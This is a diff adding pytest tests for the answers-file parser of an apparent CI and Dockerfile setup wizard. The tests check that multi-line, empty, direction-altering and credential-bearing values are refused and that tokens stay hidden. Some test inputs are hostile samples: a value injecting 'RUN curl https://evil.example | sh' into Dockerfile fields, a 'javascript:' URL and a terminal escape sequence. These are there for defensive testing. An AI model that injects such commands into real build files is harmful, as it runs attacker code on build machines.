@@ -117,3 +117,90 @@ def test_bad_answers_name_key_line_and_allowed(text: str, key: str, line: int, a
 def test_missing_file_says_how_to_create_one(tmp_path) -> None:
     with pytest.raises(AnswersError, match="init-answers"):
         load_answers(tmp_path / "dockwright.yml")
+
+
+def _text_fields(cls: type, prefix: str = "") -> set[str]:
+    """Every text field of a Plan section, read from the type hints (what a new field would add)."""
+    import typing
+
+    out: set[str] = set()
+    for f in dataclasses.fields(cls):
+        tp, key = typing.get_type_hints(cls)[f.name], f"{prefix}{f.name}"
+        if dataclasses.is_dataclass(tp):
+            out |= _text_fields(tp, key + ".")
+        elif typing.get_origin(tp) is tuple:
+            inner = typing.get_args(tp)[0]
+            if dataclasses.is_dataclass(inner):
+                out |= _text_fields(inner, key + "[0].")
+            else:
+                out.add(f"{key}.NAME" if f.metadata.get("mapping") else f"{key}[0]")
+        elif str in (typing.get_args(tp) or (tp,)):
+            out.add(key)
+    return out
+
+
+def test_the_one_text_rule_covers_every_text_field() -> None:
+    """Each text field with a line break is refused under its own key; a new field is covered without a change."""
+    from dockwright.wizard.plan import GitLabSpec, text_problems
+
+    poisoned = "x\nRUN curl https://evil.example | sh"
+    plan = Plan(
+        gitlab=GitLabSpec(url=poisoned, project=poisoned),
+        executor=poisoned,
+        runner=dataclasses.replace(Plan().runner, workflow=poisoned, description=poisoned, tags=(poisoned,),
+                                   docker_image=poisoned, config_path=poisoned),
+        registry=RegistrySpec(kind=poisoned, image=poisoned, host=poisoned, region=poisoned, account=poisoned),
+        variables=(VariableSpec(key=poisoned, from_env=poisoned, variable_type=poisoned, environment_scope=poisoned,
+                                description=poisoned),),
+        dockerfile=dataclasses.replace(Plan().dockerfile, language=poisoned, base_image=poisoned, workdir=poisoned,
+                                       requirements=poisoned, env=(("NAME", poisoned),), command=(poisoned,)),
+        pipeline=dataclasses.replace(Plan().pipeline, docker_version=poisoned, stages=(poisoned,)),
+        git=dataclasses.replace(Plan().git, branch=poisoned, commit_message="Add CI\x1b[2J"),
+    )
+    refused = {key for key, _problem, _allowed in text_problems(plan)}
+    assert refused == _text_fields(Plan)
+    assert text_problems(replace_in(Plan(), "git", commit_message="Add CI\n\nWith a body\tand a tab")) == []
+
+
+@pytest.mark.parametrize(("yaml", "key", "problem"), [
+    ('dockerfile: {base_image: "x\\nRUN curl e | sh"}', "dockerfile.base_image", "has a line break"),
+    ('runner: {tags: ["a\\u2028b"]}', "runner.tags[0]", "has a line break"),
+    ('runner: {description: "a\\u202eb"}', "runner.description", "text-direction character U+202E"),
+    ('runner: {description: ""}', "runner.description", "is empty"),
+    ('runner: {docker_image: " "}', "runner.docker_image", "is empty"),
+    ('dockerfile: {base_image: ""}', "dockerfile.base_image", "is empty"),
+    ("variables: [{key: A, environment_scope: ''}]", "variables[0].environment_scope", "is empty"),
+    ("gitlab: {url: 'http://u:p@gitlab.example.com'}", "gitlab.url", "has a user name or password in it"),
+    ("gitlab: {url: 'javascript:alert(1)'}", "gitlab.url", "does not start with https://"),
+])
+def test_single_line_and_empty_values_are_refused_with_key_and_line(yaml: str, key: str, problem: str) -> None:
+    with pytest.raises(AnswersError) as info:
+        parse_answers(yaml + "\n", path="dockwright.yml")
+    assert info.value.key == key and problem in info.value.sentence and info.value.line == 1
+    assert info.value.exit_code == EXIT_BAD_INPUT
+
+
+def test_an_empty_url_still_means_find_it_elsewhere() -> None:
+    assert parse_answers("gitlab: {url: '', project: a/b}\n").gitlab.url == ""
+
+
+def test_a_token_is_never_echoed_by_an_answers_error() -> None:
+    token = "glpat-abcdefghij0123456789"
+    for yaml in (f"variables: [{{key: A, from_env: {token}}}]", f"executor: {token}", f"version: {{x: {token}}}",
+                 f"variables: [{{key: {token}}}]", f"dockerfile: {{port: {token}}}"):
+        with pytest.raises(AnswersError) as info:
+            parse_answers(yaml + "\n")
+        assert token not in str(info.value) and "looks like a token, not shown" in str(info.value), yaml
+    with pytest.raises(AnswersError) as info:
+        parse_answers(f"variables: [{{key: A, from_env: {token}}}]\n")
+    assert "not the value" in info.value.next_step
+
+
+@pytest.mark.parametrize("text", ["", "# only a comment\n# and another\n", "null\n", "---\n", "{}\n"])
+def test_an_answers_file_without_answers_says_so(text: str) -> None:
+    notes: list[str] = []
+    plan = parse_answers(text, defaults=Plan(), path="dockwright.yml", notes=notes)
+    assert plan == Plan()
+    assert len(notes) == 1 and "dockwright.yml holds no answers" in notes[0] and "default" in notes[0]
+    parse_answers("executor: shell\n", notes=notes)
+    assert len(notes) == 1  # a file with answers gets no note
